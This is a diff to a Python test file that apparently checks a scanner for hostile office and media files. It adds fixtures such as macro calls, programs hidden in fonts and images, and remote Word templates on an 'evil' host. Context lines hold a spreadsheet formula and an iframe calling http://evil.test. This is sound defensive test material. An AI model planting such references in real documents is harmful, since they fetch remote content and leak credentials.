@@ -9,6 +9,7 @@ from functools import partial
 from tests.hostile.archives import zipped
 from tests.hostile.case import Case
 from tests.hostile.containers import film_elsewhere
+from tests.hostile.fillings import PROGRAM
 from tests.hostile.images import SCRIPT, picture
 from tests.hostile.media import box, mp3, mp4, wav, webm
 from tests.hostile.office import (
@@ -90,9 +91,8 @@ def _windows_media(header: bytes = b"") -> bytes:
     )
 
 
-def _program_stream() -> bytes:
-    """The head of an MPEG-1 film (ISO/IEC 11172-1 §2.4.3.2)."""
-    return b"\0\0\1\xba\x21\0\1\0\1\x80\0\1" + b"\0\0\1\xe0" + b"\0" * 2000
+def _templated(target: str) -> bytes:
+    return related(word(), "word/_rels/settings.xml.rels", "attachedTemplate", target)
 
 
 def _untidy(kind: str, mode: str, tail: bytes) -> bytes:
@@ -126,7 +126,6 @@ _MEDIA: tuple[tuple[str, str, Callable[[], bytes], str], ...] = (
     ("a packed drawing and a program", "a.emz", lambda: gzip.compress(_DRAWING + _RUNNING), "hidden-data"),
     ("a film that opens an address", "a.wmv", lambda: _windows_media(_COMMAND), "action"),
     ("a Windows film and a program", "a.wmv", lambda: _windows_media() + _RUNNING, "hidden-data"),
-    ("a film of unknown structure", "a.mpg", _program_stream, "embedded-file"),
     ("a packed program", "a.wmz", lambda: gzip.compress(b"MZ" + b"\x90" * 99), "embedded-file"),
     ("a packed drawing and an archive", "a.wmz", lambda: gzip.compress(_DRAWING) + _PROGRAM, "polyglot"),
 )  # fmt: skip
@@ -148,6 +147,9 @@ _ODF: tuple[tuple[str, Callable[[], bytes], str], ...] = (
     ("a picture above, escaped,", lambda: _drawn("Pictures/%2e%2e/../%2e%2e/a"), "external-reference"),
     ("a picture above, by backslashes,", lambda: _drawn("..\\..\\a.png"), "external-reference"),
     ("a table's formula that asks a service", lambda: _in_text('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.test&quot;)"/>'), "action"),
+    ("a macro of old", lambda: _in_text('<text:execute-macro text:name="a"/>'), "macro"),
+    ("a font that holds a program", lambda: remade(odt(), add={"Fonts/a.ttf": b"\0\1\0\0" + b"\1" * 99 + PROGRAM}), "embedded-file"),
+    ("a picture in reserve that holds a program", lambda: remade(odt(), add={"ObjectReplacements/Object 1": b"VCLMTF" + PROGRAM}), "embedded-file"),
     ("a template on a share", lambda: _in_text('<meta:template xlink:href="//evil.test/a.ott"/>'), "external-reference"),
 )  # fmt: skip
 _LINKS = (
@@ -163,7 +165,7 @@ HONEST = [
     Case("a ZIP of an open document", "a.zip", lambda: zipped({"课/教学设计.docx": word(), "课/~$设计.docx": b"\6" + b"\0" * 161})),
     *(Case(f"a presentation with an untidy {kind}", "a.pptx", partial(_embedding, f"a.{kind.lower()}", partial(_untidy, kind, mode, tail))) for kind, mode, tail in _UNTIDY),
     Case("an OpenDocument with names like addresses", "a.odt", lambda: _in_text('<draw:frame draw:name="Macro: 微距照片 1"/><text:bookmark text:name="service:售后"/>')),
-    Case("a document made from a template", "a.docx", lambda: related(word(), "word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:\\a\\教案.dotx")),
+    *(Case(f"a document made from {target}", "a.docx", partial(_templated, target)) for target in ("file:///C:\\a\\教案.dotx", "file:///D:/a%20b/教案.dotx")),
     Case("an OpenDocument with its picture", "a.odt", lambda: _drawn("./Pictures/a.png")),
     Case("an OpenDocument with a link to a film", "a.odt", lambda: _in_text('<text:a xlink:href="../视频/实验.mp4"/>')),
     Case("an OpenDocument with a menu", "a.odt", lambda: _configured("Configurations2/menubar/menubar.xml", 'menu:id=".uno:Save"')),
@@ -174,6 +176,8 @@ HOSTILE = [
     *(Case(f"{what} in an OpenDocument presentation", "a.odp", partial(_pictured, name, make), code) for what, name, make, code in _MEDIA),
     *(Case(f"a workbook connected to {what}", "a.xlsx", partial(_connected, xml), "external-reference") for what, xml in _CONNECTIONS),
     *(Case(f"{what} in OpenDocument", "a.odt", make, code) for what, make, code in _ODF),
+    *(Case(f"a document of a template at {target}", "a.docx", partial(_templated, target), "external-reference") for target in ("\\\\evil\\a.dotm", "file://evil/a.dotx", "file:///C:\\..\\a.dotx", "file:///C:/a//evil/a.dotx")),
+    Case("a control that names a macro", "a.xlsx", lambda: remade(excel(), add={"xl/ctrlProps/ctrlProp1.xml": b'<formControlPr fmlaMacro="[0]!run"/>'}), "macro"),
     Case("a picture linked as a page", "a.docx", lambda: _linking_by('<a:blip r:link="rIdX"/>'), "external-reference"),
     Case("a drawing linked as a page", "a.docx", lambda: _linking_by('<v:imagedata r:href="rIdX"/>'), "external-reference"),
     Case("a film of the web in a document", "a.docx", lambda: in_word('<w:p><wp15:webVideoPr xmlns:wp15="urn:wp15" embeddedHtml="&lt;iframe src=&quot;http://evil.test&quot;/>"/></w:p>'), "external-reference"),
